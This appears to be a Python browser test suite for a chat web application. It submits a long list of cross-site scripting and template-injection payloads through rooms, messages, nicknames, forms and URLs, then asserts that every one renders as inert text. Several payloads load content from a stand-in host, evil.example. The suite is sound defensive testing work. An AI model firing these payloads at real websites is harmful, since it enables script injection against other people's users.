"""Text that would be a script, in every field people read and on every page, in Chromium: it is seen as text.

Nothing runs (no dialog, no call, no violation of the policy, which would say that something was stopped only at the
last door), no element and no attribute comes of it, and what is read is what was typed.
"""

import unicodedata
from typing import Any
from urllib.parse import quote

import pytest

from tests.journeys.conftest import Visitor, Visitors
from tests.live.conftest import House, Wire
from tests.support.client import Person
from tests.support.people import Persona
from tests.support.server import ServerProcess

pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<script>window.ran(1)//",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=window.ran(1) ",
    "<IMG SRC=javascript:alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src=`x`onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)'>x",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import'//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<template><img src onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    "</title><img src onerror=alert(1)>",
    "</textarea><img src onerror=alert(1)>",
    "</bdi></a></li></ul><img src onerror=alert(1)>",
    "--><img src onerror=alert(1)><!--",
    "]]><img src onerror=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/<img/src/onerror=alert(1)>",
    "http://javascript:alert(1)@a.example/",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot;&gt;&lt;svg onload=alert(1)&gt;",
    "{{ 7 * 7 }}",
    "{{config.items()}}{% raw %}",
    "${alert(1)}`${7*7}`",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "#{7*7}<%= 7*7 %>",
    "\\x3cscript\\x3ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\u2024ipt>alert(1)",
    "＜script＞alert(1)＜/script＞",
)
BODIES_ONLY = (
    "line\u2028<img src=x onerror=alert(1)>\u2029next",
    "\u202e<script>alert(1)</script>\u202c",
    "\u2066\u200f<svg onload=alert(1)>",
    "<img\tsrc=x\nonerror=alert(1)>",
    "<img src=x onerror=alert(1)\x7f>",
    "java\tscript:alert(1)",
    "a" * 300 + "<svg onload=alert(1)>",
)
NICKNAMES = tuple(payload for payload in PAYLOADS if len(payload) <= 32)[::2][:12]
OUR_TAGS = """
  html head meta title link script body header nav main footer div p span a bdi h1 h2 h3 ul ol li form input label
  select option button details summary article time textarea noscript fieldset legend strong br img
  aside section mark dl dt dd dialog blockquote svg path
"""
WATCH = """
  window.ran = what => (window.caught ??= []).push(`ran: ${what}`);
  window.alert = window.confirm = window.prompt = what => window.ran(what);
  document.addEventListener('securitypolicyviolation',
    event => (window.caught ??= []).push(`policy: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""
LOOK = """() => {
  const own = document.querySelectorAll('*');
  const tags = new Set(), handlers = [], addresses = [];
  for (const element of own) {
    tags.add(element.localName);
    for (const {name, value} of element.attributes) {
      if (name.startsWith('on') || name === 'srcdoc' || name === 'style')
        handlers.push(`${element.localName} ${name}=${value}`);
      if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(name)) addresses.push(value);
    }
  }
  const count = selector => document.querySelectorAll(selector).length;
  return {caught: window.caught ?? [], tags: [...tags], handlers, addresses,
    inline: count('script:not([src]):not([type="application/json"])'),
    pictures: count('img:not([src^="/static/"])') + count('svg:not(.icon)'), metas: count('meta[http-equiv]')};
}"""

FILL = "(field, value) => { field.removeAttribute('maxlength'); field.type = 'text'; field.value = value; }"


class Watched:
    """Somebody whose every page is looked through."""

    def __init__(self, visitor: Visitor) -> None:
        self.visitor, self.page = visitor, visitor.page
        self.pages = 0

    async def watch(self) -> "Watched":
        await self.visitor.context.add_init_script(WATCH)
        self.page.on("dialog", lambda _: self.visitor.trouble.append("a dialog opened"))
        return self

    async def harmless(self, where: str) -> None:
        found: dict[str, Any] = await self.page.evaluate(LOOK)
        self.pages += 1
        assert found["caught"] == [], where
        assert set(found["tags"]) - set(OUR_TAGS.split()) == set(), where
        assert found["handlers"] == [], where
        assert (found["inline"], found["metas"], found["pictures"]) == (0, 0, 0), where
        for address in found["addresses"]:
            assert address.startswith(("/", "?", "#", "http://", "https://")), (where, address)
            assert not address.startswith("//"), (where, address)

    async def go(self, path: str) -> None:
        await self.visitor.go(path)
        await self.harmless(path)

    async def texts(self, selector: str) -> list[str]:
        found: list[str] = await self.page.eval_on_selector_all(
            selector, "all => all.map(one => one.textContent)"
        )
        return found

    async def submits(self, path: str, **fields: str) -> None:
        """Fill in without the browser's own checks, and see that what comes back has every value as it was."""
        await self.visitor.go(path)
        for name, value in fields.items():
            await self.page.eval_on_selector(f"[name={name}]", FILL, value)
        async with self.page.expect_navigation():
            await self.page.eval_on_selector(
                "main form", "form => HTMLFormElement.prototype.submit.call(form)"
            )
        await self.harmless(f"{path} {fields}")
        for name, value in fields.items():
            echoed = "/" if name == "next" else value  # a return path that is none of ours is not given back
            assert await self.page.input_value(f"[name={name}]") == echoed


def folded(text: str) -> str:
    return " ".join(unicodedata.normalize("NFC", text).split())


async def say(wire: Wire, room: str, first: int, *bodies: str) -> None:
    for number, body in enumerate(bodies, first):
        wire.say(op="send", id="x", room=room, cid=f"c{number}", body=body)
        assert (await wire.hear("ok"))["room"] == room, body


@pytest.mark.req("1.1", "1.2")
async def test_names_descriptions_and_nicknames_are_text_in_every_list(
    visitors: Visitors, server: ServerProcess
) -> None:
    house = House(server)
    mallory = await house.person("mallory")
    made = {}
    for payload in PAYLOADS:
        name = payload[:64]
        answer = await mallory._http.post("/api/v1/room", json={"roomName": name, "description": payload})
        assert answer.status_code == 200, (payload, answer.text)
        made[name] = answer.json()["roomId"]
    ada = await Watched(await visitors.new()).watch()
    await ada.visitor.sign_up("ada", "Ada")
    await ada.go("/chat/lobby")
    assert sorted(await ada.texts(".room-name")) == sorted(map(folded, made))
    assert sorted(await ada.texts(".room-about")) == sorted(
        unicodedata.normalize("NFC", one.strip()) for one in PAYLOADS
    )
    for name in PAYLOADS[::6]:
        path = f"/chat/room/{made[name[:64]]}"
        await ada.go(path)
        assert folded(name[:64]) in await ada.page.title()
        assert await ada.texts(".room-head h1") == [folded(name[:64])]
        await ada.page.click(".room-head summary")
        assert await ada.texts(".menu-body > p") == [name.strip()]
        await ada.page.click(".composer-pane button.primary")
        await ada.page.wait_for_selector("#composer:enabled")
    await ada.go("/chat/rooms")
    assert sorted(await ada.texts(".room-name")) == sorted(folded(name[:64]) for name in PAYLOADS[::6])
    for person in house.people:
        await person.__aexit__()


@pytest.mark.req("1.1", "1.2")
async def test_bodies_and_authors_are_text_as_pages_and_live(
    visitors: Visitors, server: ServerProcess
) -> None:
    house = House(server)
    mallory = await house.person("mallory")
    room = await mallory.create_room("Plaza")
    wire = await house.reader(mallory, room)
    bodies = [*PAYLOADS, *BODIES_ONLY]
    await say(wire, room, 0, *bodies[::2])
    ada = await Watched(await visitors.new()).watch()
    await ada.visitor.sign_up("ada", "Ada")
    await ada.visitor.join(f"/chat/room/{room}")
    await ada.harmless("the room as a page")
    await say(wire, room, 1_000, *bodies[1::2])
    for number, nickname in enumerate(NICKNAMES):
        persona = Persona(f"guest{number}", nickname, f"a long password of guest{number}")
        guest = await (await Person(server.url, persona).sign_up()).sign_in()
        house.people.append(guest)
        await guest.join(room)
        await say(await house.reader(guest, room), room, 0, f"it is me, {nickname}")
    last = f"it is me, {NICKNAMES[-1]}"
    await ada.page.wait_for_function(
        "last => [...document.querySelectorAll('#messages .body')].at(-1)?.textContent === last", arg=last
    )
    await ada.harmless("the room, live")
    expected = [unicodedata.normalize("NFC", body) for body in (*bodies[::2], *bodies[1::2])]
    expected += [f"it is me, {nickname}" for nickname in NICKNAMES]
    shown = await ada.visitor.bodies()
    assert shown[-len(expected) :] == expected[-len(shown) :]
    assert set(await ada.texts("#messages .author")) >= set(map(folded, NICKNAMES))
    await ada.page.reload()
    await ada.visitor.live()
    await ada.harmless("the room with its authors, as a page")
    again = await ada.visitor.bodies()
    assert again == expected[-len(again) :]
    await ada.go(f"/chat/room/{room}/members")
    assert set(await ada.texts(".person-name bdi")) >= set(map(folded, NICKNAMES))
    await ada.go(f"/chat/log/{room}")
    for payload in PAYLOADS[::12]:
        await ada.go(f"/chat/room/{room}/members?q={quote(payload)}")
        await ada.go(f"/chat/log/{room}?q={quote(payload)}&at={quote(payload)}")
    for open_wire in house.wires:
        open_wire.writer.close()
    for person in house.people:
        await person.__aexit__()


@pytest.mark.req("1.1", "1.2", "1.17")
async def test_what_a_page_echoes_is_text(visitors: Visitors) -> None:
    ada = await Watched(await visitors.new()).watch()
    for number in range(0, len(PAYLOADS) - 2, 3):
        one, two, three = PAYLOADS[number : number + 3]
        if number % 2:
            await ada.submits("/login", username=one, next=f"/{two}")
        else:
            await ada.submits("/auth/join", username=one, nickname=two, email=three)
    for payload in PAYLOADS[::8]:
        await ada.go(f"/login?next={quote(payload)}")
        await ada.go(f"/{quote(payload, safe='')}")
    await ada.visitor.sign_up("ada", "Ada")
    for number in range(0, len(PAYLOADS) - 2, 9):
        one, two, three = PAYLOADS[number : number + 3]
        await ada.submits("/chat/room/create", roomName=one, description=two, capacity=three)
    for payload in PAYLOADS[::3]:
        await ada.go(f"/chat/lobby?q={quote(payload)}&sort={quote(payload)}&page={quote(payload)}")
        if await ada.page.locator("#q").count():
            assert await ada.page.input_value("#q") == payload[:64]
    await ada.go(f"/chat/room/create?q={quote(PAYLOADS[6])}")
    await ada.go(f"/chat/room/{quote(PAYLOADS[6], safe='')}")
